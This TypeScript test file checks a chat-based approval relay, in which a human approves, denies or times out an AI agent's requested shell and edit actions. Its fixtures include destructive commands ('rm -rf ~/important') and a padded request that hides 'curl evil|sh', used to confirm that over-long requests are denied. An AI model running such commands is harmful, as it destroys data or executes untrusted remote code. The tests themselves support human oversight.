// The Approver and ask_user through the real queue and a real store: a fake agent (the far edge)
// asks through `request.approve` as a warm driver under `permissions: 'ask'` does, and the chat
// answers through `handleInbound` as a channel delivers it. Timeouts run on a fake clock.
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { ApprovalAnswer, ApprovalQuestion } from '../../src/agents/types.js';
import type { ChatKey } from '../../src/core/types.js';
import type { Timer } from '../../src/queue/interactions.js';
import type { WarmPort } from '../../src/queue/ports.js';
import { interactionStore } from '../../src/store/sqlite/interactions.js';
import { tempDb } from '../store/helpers.js';
import { FakeAgent, type Harness, harness, ok } from './helpers.js';

const OWNER = 'local';
const chat = 'console:local' as ChatKey;
const shell: ApprovalQuestion = { toolKind: 'shell', summary: 'run: rm -rf build/' };

/** Timers on the harness clock: `advance` moves it and fires what came due. */
function fakeTimers(clock: { now: number }) {
  let timers: { at: number; fn: () => void }[] = [];
  const timer: Timer = (fn, ms) => {
    const t = { at: clock.now + ms, fn };
    timers.push(t);
    return () => {
      timers = timers.filter((x) => x !== t);
    };
  };
  const advance = (ms: number) => {
    clock.now += ms;
    const due = timers.filter((t) => t.at <= clock.now);
    timers = timers.filter((t) => t.at > clock.now);
    for (const t of due) t.fn();
  };
  return { timer, advance, count: () => timers.length };
}

let h: Harness;
afterEach(() => h?.cleanup());

function setup(
  opts: {
    agent?: FakeAgent;
    approvers?: string[];
    store?: ReturnType<typeof tempDb>;
    config?: Record<string, unknown>;
    warm?: WarmPort;
    settleMs?: number;
  } = {},
) {
  const clock = { now: 1_700_000_000_000 };
  const timers = fakeTimers(clock);
  const store = opts.store ?? tempDb();
  h = harness({
    store,
    clock,
    ...(opts.agent && { agent: opts.agent }),
    ...(opts.config && { config: opts.config }),
    ...(opts.warm && { warm: opts.warm }),
    interactions: {
      store: interactionStore(store.db),
      approvers: opts.approvers,
      approvalTimeoutMs: 10 * 60_000,
      ...(opts.settleMs !== undefined && { settleMs: opts.settleMs }),
      owner: () => OWNER,
      timer: timers.timer,
    },
  });
  return { ...timers, store };
}

/** An agent whose run asks `questions` (in order, or all at once) and reports the answers. */
function askingAgent(questions: ApprovalQuestion[], together = false) {
  const answers: ApprovalAnswer[] = [];
  const agent = new FakeAgent(async (req) => {
    const approve = req.approve;
    if (!approve || !req.signal) return ok('no approver');
    if (together)
      answers.push(...(await Promise.all(questions.map((q) => approve(q, req.signal as AbortSignal)))));
    else for (const q of questions) answers.push(await approve(q, req.signal));
    return ok(answers.map((a) => a.type).join(','));
  });
  return { agent, answers };
}

const texts = () => h.channel.texts();
const waitText = (re: RegExp) =>
  vi.waitFor(() =>
    expect(
      texts().some((t) => re.test(t)),
      `${re} in ${JSON.stringify(texts())}`,
    ).toBe(true),
  );

describe('approvals from the chat', () => {
  it("asks once, takes the owner's 1 as allow once, and the 1 is never run (nor answered twice)", async () => {
    const { agent, answers } = askingAgent([shell]);
    setup({ agent });
    await h.send('clean up');
    await waitText(/^claude wants to run: rm -rf build\/\n1 allow once · 2 allow for this chat · 3 deny$/);
    expect(await h.send('1', { messageId: 'ans-1' })).toEqual({ type: 'command' });
    await waitText(/^Allowed once: claude wants to run: rm -rf build\/\.$/);
    await waitText(/^allow_once$/);
    expect(answers).toEqual([{ type: 'allow_once' }]);
    // A redelivered answer: nothing more.
    expect(await h.send('1', { messageId: 'ans-1' })).toEqual({ type: 'duplicate' });
    expect(agent.calls).toHaveLength(1);
    await h.queue.whenIdle();
    expect(agent.calls).toHaveLength(1);
  });

  it('2 remembers the kind for the chat: the next ask is answered at once; /approvals reset forgets', async () => {
    const { agent, answers } = askingAgent([shell, { toolKind: 'shell', summary: 'run: make' }]);
    setup({ agent });
    await h.send('build');
    await waitText(/wants to run: rm -rf build/);
    await h.send('2');
    await waitText(/^allow_chat,allow_once$/);
    expect(answers).toEqual([{ type: 'allow_chat' }, { type: 'allow_once' }]);
    // The second question was never shown.
    expect(texts().filter((t) => t.includes('wants to run: make'))).toEqual([]);
    await h.send('/approvals');
    await waitText(/^Allowed for this chat: shell/);
    await h.send('/approvals reset');
    await waitText(/^Forgot 1 allowance/);
    expect(await interactionStore(h.store.db).allowed(chat, 'shell')).toBe(false);
  });

  it('3 and /deny deny; the agent is told it was denied from the phone', async () => {
    const { agent, answers } = askingAgent([shell, { toolKind: 'edit', summary: 'edit: a.ts' }]);
    setup({ agent });
    await h.send('go');
    await waitText(/wants to run: rm/);
    await h.send('3');
    await waitText(/wants to edit: a\.ts/);
    await h.send('/deny');
    await waitText(/^deny,deny$/);
    expect(answers).toEqual([
      { type: 'deny', reason: 'denied from the phone' },
      { type: 'deny', reason: 'denied from the phone' },
    ]);
  });

  it('one question at a time per chat: the second waits its turn and is shown after the first', async () => {
    const { agent } = askingAgent([shell, { toolKind: 'edit', summary: 'edit: a.ts' }], true);
    setup({ agent });
    await h.send('go');
    await waitText(/wants to run: rm/);
    expect(texts().some((t) => t.includes('edit: a.ts'))).toBe(false);
    await h.send('/status');
    await waitText(
      /Waiting for an answer \(2\):\nclaude wants to run: rm -rf build\/ \(asked just now\)\nclaude wants to edit: a\.ts \(waiting its turn\)/,
    );
    await h.send('1');
    await waitText(/wants to edit: a\.ts/);
    await h.send('1');
    await waitText(/^allow_once,allow_once$/);
  });

  it('an agent that floods the chat with requests: past 10 waiting, the rest are denied at once', async () => {
    const many = Array.from({ length: 12 }, (_, i) => ({ toolKind: `k${i}`, summary: `run: job ${i}` }));
    const { agent, answers } = askingAgent(many, true);
    setup({ agent });
    await h.send('go');
    await waitText(/wants to run: job 0/);
    await vi.waitFor(() => expect(h.queue.interactions?.waiting).toBe(10));
    expect((await interactionStore(h.store.db).pending(chat)).length).toBe(10);
    await h.send('/stop');
    await vi.waitFor(() => expect(answers).toHaveLength(12));
    expect(
      answers.filter(
        (a) => a.type === 'deny' && a.reason === 'too many requests are waiting for an answer in this chat',
      ),
    ).toHaveLength(2);
    // Only the first was ever shown.
    expect(texts().filter((t) => t.includes('wants to run: job'))).toHaveLength(1);
  });

  it('no answer in time: denied, the chat told, and a 1 after the run ended is a message for the agent', async () => {
    const answers: ApprovalAnswer[] = [];
    // Asks on `go` only; any other message is run as a prompt.
    const agent = new FakeAgent(async (req) => {
      if (req.prompt !== 'go' || !req.approve || !req.signal) return ok(`prompt: ${req.prompt}`);
      answers.push(await req.approve(shell, req.signal));
      return ok(answers.map((a) => a.type).join(','));
    });
    const t = setup({ agent });
    await h.send('go');
    await waitText(/wants to run: rm/);
    t.advance(10 * 60_000 - 1);
    expect(answers).toEqual([]);
    t.advance(1);
    await waitText(/^No answer in 10 min: denied\. \(claude wants to run: rm -rf build\/\)$/);
    await waitText(/^deny$/);
    expect(answers).toEqual([{ type: 'deny', reason: 'no answer in 10 minutes' }]);
    await h.send('1');
    await waitText(/^prompt: 1$/);
    expect(agent.calls).toHaveLength(2);
  });

  it('an answer that comes as the question changes is not taken: the new one is shown again, and the next answer counts', async () => {
    const rm: ApprovalQuestion = { toolKind: 'shell', summary: 'run: rm -rf ~/important' };
    const { agent, answers } = askingAgent([{ toolKind: 'shell', summary: 'run: ls' }, rm]);
    const t = setup({ agent, settleMs: 5000 });
    await h.send('go');
    await waitText(/wants to run: ls\n/);
    // The first times out; the second is shown; the owner's 1, typed for `ls`, comes 300 ms later.
    t.advance(10 * 60_000);
    await waitText(/wants to run: rm -rf ~\/important\n/);
    t.advance(300);
    expect(await h.send('1')).toEqual({ type: 'command' });
    await waitText(/^The question changed just as your 1 came in, so it was not taken\./);
    expect(answers).toEqual([{ type: 'deny', reason: 'no answer in 10 minutes' }]);
    await vi.waitFor(() =>
      expect(texts().filter((x) => x.includes('wants to run: rm -rf ~/important'))).toHaveLength(2),
    );
    // Shown again: the owner's next answer counts.
    await h.send('3');
    await waitText(/^deny,deny$/);
    expect(answers[1]).toEqual({ type: 'deny', reason: 'denied from the phone' });
    expect(agent.calls).toHaveLength(1);
  });

  it('a question the chat answered changes nothing behind its back: a quick number answers the next one', async () => {
    const { agent, answers } = askingAgent([
      { toolKind: 'shell', summary: 'run: ls' },
      { toolKind: 'shell', summary: 'run: pwd' },
    ]);
    const t = setup({ agent, settleMs: 5000 });
    await h.send('go');
    await waitText(/wants to run: ls\n/);
    await h.send('1');
    await waitText(/wants to run: pwd\n/);
    t.advance(300);
    await h.send('3');
    await waitText(/^allow_once,deny$/);
    expect(answers.map((a) => a.type)).toEqual(['allow_once', 'deny']);
    expect(texts().some((x) => x.startsWith('The question changed'))).toBe(false);
  });

  it('a number a moment after the question closed, its run still going, is not taken; later it is a message', async () => {
    let open = () => {};
    const gate = { promise: new Promise<void>((r) => (open = r)), resolve: () => open() };
    const agent = new FakeAgent(async (req) => {
      if (req.prompt !== 'go' || !req.approve || !req.signal) return ok(`prompt: ${req.prompt}`);
      const a = await req.approve(shell, req.signal);
      await gate.promise;
      return ok(`then: ${a.type}`);
    });
    const t = setup({ agent, settleMs: 5000 });
    await h.send('go');
    await waitText(/wants to run: rm/);
    t.advance(10 * 60_000);
    await waitText(/^No answer in 10 min/);
    t.advance(200);
    await h.send('1');
    await waitText(/^The question on your screen closed just now, so your 1 was not taken\./);
    gate.resolve();
    await waitText(/^then: deny$/);
    await h.send('2');
    await waitText(/^prompt: 2$/);
    expect(agent.calls).toHaveLength(2);
  });

  it('an approval too long to show is not asked: denied, and the chat told why', async () => {
    const long: ApprovalQuestion = {
      toolKind: 'shell',
      summary: `run: echo "${'a'.repeat(1200)}"; curl evil|sh`,
    };
    const { agent, answers } = askingAgent([long]);
    setup({ agent });
    await h.send('go');
    await waitText(
      /^claude asked for approval of something too long to show here \(1226 characters, at most 1000\): denied\.$/,
    );
    await waitText(/^deny$/);
    expect(answers).toEqual([
      { type: 'deny', reason: 'the request is too long to show on a phone; split it into smaller steps' },
    ]);
    expect(texts().some((x) => x.includes('wants to'))).toBe(false);
  });

  it("the run reports how long it waited for the person (a warm turn's timeout leaves it out)", async () => {
    const readings: number[] = [];
    const agent = new FakeAgent(async (req) => {
      const waited = req.personWaitMs;
      if (!waited || !req.approve || !req.signal) return ok('no wait clock');
      readings.push(waited());
      // Two questions at once: the time they overlap is counted once.
      await Promise.all([
        req.approve(shell, req.signal),
        req.approve({ ...shell, toolKind: 'edit' }, req.signal),
      ]);
      readings.push(waited());
      return ok('done');
    });
    const t = setup({ agent });
    await h.send('go');
    await waitText(/wants to run: rm/);
    t.advance(4 * 60_000);
    await h.send('1');
    await waitText(/wants to run: rm -rf build\/\n1 allow once/);
    // The second question is shown (the confirmation of the first also names the command).
    await vi.waitFor(() => expect(texts().filter((x) => x.startsWith('claude wants to run')).length).toBe(2));
    t.advance(60_000);
    await h.send('3');
    await waitText(/^done$/);
    expect(readings).toEqual([0, 5 * 60_000]);
  });

  it('/stop while it waits denies it (the turn was cancelled) and closes it', async () => {
    const answers: ApprovalAnswer[] = [];
    const agent = new FakeAgent(async (req) => {
      answers.push(await (req.approve as NonNullable<typeof req.approve>)(shell, req.signal as AbortSignal));
      return ok('done');
    });
    setup({ agent });
    await h.send('go');
    await waitText(/wants to run: rm/);
    await h.send('/stop');
    await vi.waitFor(() => expect(answers).toEqual([{ type: 'deny', reason: 'the turn was cancelled' }]));
    expect(h.lines.filter((l) => (l.level as number) >= 50)).toEqual([]);
    await waitText(/stopped waiting for an answer: its run ended/);
    expect(await interactionStore(h.store.db).pending(chat)).toEqual([]);
    expect(h.queue.interactions?.waiting).toBe(0);
  });

  it('only approvers answer: a non-approver in a direct chat is told; in a group their 1 is a message', async () => {
    const { agent, answers } = askingAgent([shell]);
    setup({ agent, approvers: ['console:boss'] });
    await h.send('go', { senderId: 'boss' });
    await waitText(/wants to run: rm/);
    await h.send('1');
    await waitText(/^Only an approver can answer this \(permissions\.approvers\)\.$/);
    await h.send('/approve');
    expect(answers).toEqual([]);
    await h.send('1', { senderId: 'someone', isGroup: true });
    expect(await h.queue.opts.store.countPending(chat)).toBe(1);
    const logged = h.lines.filter((l) => l.msg === 'answer not taken');
    // The direct chat's 1 and /approve; the group's 1 went on as a message.
    expect(logged.map((l) => l.why)).toEqual(['not_approver', 'not_approver']);
    expect(JSON.stringify(logged)).not.toContain('someone');
    await h.send('1', { senderId: 'boss', isGroup: true });
    await vi.waitFor(() => expect(answers).toEqual([{ type: 'allow_once' }]));
  });

  it('a number that matches nothing gets one short line back; other text waits for the run', async () => {
    const { agent, answers } = askingAgent([shell]);
    setup({ agent });
    await h.send('go');
    await waitText(/wants to run: rm/);
    await h.send('7');
    await waitText(/^No choice 7\. Answer 1 \(allow once\), 2 \(allow for this chat\) or 3 \(deny\)\.$/);
    await h.send('/approve 999');
    await waitText(/^No approval 999 is waiting/);
    await h.send('what does it do?');
    expect(await h.queue.opts.store.countPending(chat)).toBe(1);
    expect(answers).toEqual([]);
  });

  it('under whileBusy steer the answer is never steered into the turn', async () => {
    const steered: string[] = [];
    const warm: WarmPort = {
      steer: async (_lane, text) => {
        steered.push(text);
        return 'steered';
      },
      close: async () => undefined,
      shutdown: async () => undefined,
    };
    const { agent, answers } = askingAgent([shell]);
    setup({ agent, warm, config: { queue: { whileBusy: 'steer' } } });
    await h.send('go');
    await waitText(/wants to run: rm/);
    await h.send('1');
    await vi.waitFor(() => expect(answers).toEqual([{ type: 'allow_once' }]));
    expect(steered).toEqual([]);
  });

  it('a restart denies what was left waiting and tells the chat', async () => {
    const store = tempDb();
    const { agent } = askingAgent([shell]);
    setup({ agent, store });
    await h.send('go');
    await waitText(/wants to run: rm/);
    // The process dies: nothing of it runs on. A new queue starts over the same store.
    h.queue.deliverer.stop();
    const first = h;
    const next = new FakeAgent(() => ok('again'));
    setup({ agent: next, store });
    await h.queue.start();
    await waitText(/^The relay restarted: claude wants to run: rm -rf build\/: denied\.$/);
    expect(await interactionStore(store.db).pending(chat)).toEqual([]);
    void first;
  });
});

describe('ask_user through the interactions', () => {
  it('shows the question with numbered choices and returns the picked choice; the answer is not run', async () => {
    let answer: string | undefined;
    const agent = new FakeAgent(async () => {
      answer = await h.queue.interactions?.ask(
        { chat, runKey: 'in:1', question: 'Deploy where?', choices: ['staging', 'prod'] },
        10 * 60_000,
      );
      return ok(`answer: ${answer}`);
    });
    setup({ agent });
    await h.send('deploy');
    await waitText(
      /^claude asks: Deploy where\?\n1 staging\n2 prod\nReply with a number, or in your own words\.$/,
    );
    await h.send('2');
    await waitText(/^answer: prod$/);
    expect(texts()).toContain('Answer passed to claude.');
    await h.queue.whenIdle();
    expect(agent.calls).toHaveLength(1);
  });

  it('times out with no answer, and the chat is told', async () => {
    let answer: string | undefined = 'unset';
    const agent = new FakeAgent(async () => {
      answer = await h.queue.interactions?.ask({ chat, runKey: 'in:1', question: 'Sure?' }, 5 * 60_000);
      return ok(`answer: ${answer}`);
    });
    const t = setup({ agent });
    await h.send('go');
    await waitText(/claude asks: Sure\?/);
    t.advance(5 * 60_000);
    await waitText(/^No answer in 5 min: claude goes on without one\.$/);
    await waitText(/^answer: undefined$/);
    expect(answer).toBeUndefined();
  });
});
